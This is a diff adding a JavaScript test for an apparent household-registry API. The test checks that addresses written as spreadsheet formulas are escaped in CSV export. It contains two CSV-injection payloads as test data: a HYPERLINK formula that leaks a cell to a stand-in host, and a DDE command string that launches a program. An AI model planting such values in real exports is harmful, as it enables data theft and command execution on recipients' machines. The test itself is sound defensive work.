@@ -74,3 +74,19 @@ test('a units CSV with a NUL byte is refused whole, never stored cut short', asy
   assert.match(res.body.error.message, /NUL/);
   assert.equal((await sql(srv.db, "SELECT COUNT(*) FROM units WHERE code = 'NUL-1'")).trim(), '0');
 });
+
+test('a household address written as a formula comes out of a CSV export as text (CSV injection)', async () => {
+  const S = expectStatus(await admin.post('/api/v1/units', { parent_id: admin.root.id, kind: 'subdistrict', code: 'FX-S', name: '公式街道' }), 201).body;
+  const C = expectStatus(await admin.post('/api/v1/units', { parent_id: S.id, kind: 'community', code: 'FX-C', name: '公式社区' }), 201).body;
+  const K = expectStatus(await admin.post('/api/v1/units', { parent_id: C.id, kind: 'compound', code: 'FX-K', name: '公式小区' }), 201).body;
+  const evil = '=HYPERLINK("http://example.invalid/?leak="&A2,"click")';
+  expectStatus(await admin.post('/api/v1/households', { unit_id: K.id, address: evil }), 201);
+  expectStatus(await admin.post('/api/v1/households', { unit_id: K.id, address: '@SUM(1+1)*cmd|"/C calc"!A0' }), 201);
+  const csv = expectStatus(await admin.get(`/api/v1/households?unit_id=${K.id}&format=csv`), 200);
+  const lines = csv.text.split('\r\n');
+  assert.ok(!lines.some((l) => l.split(',').some((cell) => /^"?[=+@]/.test(cell))), `a live formula in: ${csv.text}`);
+  assert.ok(csv.text.includes(`"'=HYPERLINK(""http://example.invalid/?leak=""&A2,""click"")"`), csv.text);
+  // The JSON keeps what was typed.
+  const json = expectStatus(await admin.get(`/api/v1/households?unit_id=${K.id}`), 200);
+  assert.ok(json.body.items.some((h) => h.address === evil));
+});
